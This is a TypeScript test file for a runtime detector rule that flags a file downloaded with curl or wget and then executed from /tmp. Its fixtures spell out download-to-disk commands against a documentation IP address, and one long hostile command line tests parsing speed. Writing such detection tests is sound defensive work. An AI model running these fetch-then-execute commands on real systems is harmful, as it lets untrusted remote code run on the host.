import { fetchThenRun } from '../../../../lambdas/core/detectors/falco/km-f11-fetch-then-run';
import { falcoExample } from '../../../../lambdas/core/detectors/falco-example';
import { foundOver } from '../../../support/history';

const ran = (path: string, commandLine: string, second: number) =>
  falcoExample(
    { 'proc.exepath': path, 'proc.cmdline': commandLine, 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' },
    { contentHash: `${commandLine} ${second}`, time: new Date(Date.UTC(2026, 10, 23, 12, 0, second)).toISOString() },
  );

const found = (fetch: string, path: string) =>
  foundOver(fetchThenRun, [ran(`/usr/bin/${fetch.split(' ', 1)[0] ?? ''}`, fetch, 0), ran(path, path, 10)]);

describe('KM-F11', () => {
  test('points at the fetch and at the run, and says where it was fetched', () => {
    const [match] = found('curl -sL http://198.51.100.7/a -o /tmp/agentd', '/tmp/agentd');
    expect(match).toMatchObject({ indicators: ['fetched, and run'], facts: { from: 'http://198.51.100.7/a' } });
    expect(match?.records).toHaveLength(2);
  });

  test.each([
    ['an output after the address', 'curl http://198.51.100.7/a -o /tmp/agentd'],
    ['an output joined to short options', 'curl -sLo /tmp/agentd http://198.51.100.7/a'],
    ['an output of wget', 'wget -qO /tmp/agentd http://198.51.100.7/a'],
    ['an output joined to its option', 'curl http://198.51.100.7/a --output=/tmp/agentd'],
    ['the name of the address', 'wget -q http://198.51.100.7/x/agentd?token=1'],
    ['the name of the address by option', 'curl -sSLO http://198.51.100.7/agentd'],
  ])('knows the file by %s', (_name, fetch) => {
    expect(found(fetch, '/tmp/agentd')).toHaveLength(1);
  });

  test('does not take a download to the output for a file of that name', () => {
    expect(found('curl -s http://198.51.100.7/agentd -o -', '/tmp/agentd')).toEqual([]);
  });

  test('misses a file that is renamed in between', () => {
    expect(found('curl http://198.51.100.7/a -o /tmp/a', '/tmp/b')).toEqual([]);
  });

  test('ends on a hostile command line in linear time', () => {
    const hostile = `curl ${' -o'.repeat(20_000)} ${'http://'.repeat(20_000)}`;
    expect(found(hostile, '/tmp/a')).toEqual([]);
  });
});
